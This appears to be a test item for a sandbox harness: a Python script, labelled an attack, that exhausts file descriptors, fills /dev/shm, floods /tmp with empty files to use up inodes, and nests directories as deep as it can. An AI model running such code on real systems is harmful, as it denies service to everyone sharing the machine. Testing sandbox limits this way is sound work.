"""Every descriptor, every block and every inode that there is.

The open files of a whole machine are bounded, and so are the inodes of its /tmp: a million empty files and folders nested as
deep as they go keep everybody else from making one, although they weigh nothing. Then the disk is filled with what is left.
"""
# seen: files, then
# answers: square_sum

# %% attack
import os

HELD = []
DONE = []


def until_refused(what, act, most):
    for count in range(most):
        try:
            act(count)
        except OSError as problem:
            print(f"{count} {what}, then: {problem.strerror}")
            return
    escaped(f"{most} {what}")


def empty_file(count):
    os.mknod(f"/tmp/{count:0200d}")


def deeper(count):
    os.mkdir("deeper")
    os.chdir("deeper")


def full(count):
    with open(f"/dev/shm/full-{count % 3}", "ab") as file:
        file.write(bytes(1 << 20))


def mischief():
    if DONE:
        return
    DONE.append(1)
    until_refused("descriptors", lambda count: HELD.append(os.open("/dev/null", os.O_RDONLY)), 10_000)
    for descriptor in HELD:
        os.close(descriptor)
    until_refused("megabytes", full, 2_000)
    until_refused("files", empty_file, 100_000)
    os.chdir("/tmp")
    os.unlink("/tmp/" + "0" * 200)
    until_refused("folders in each other", deeper, 100_000)
    os.chdir("/tmp")
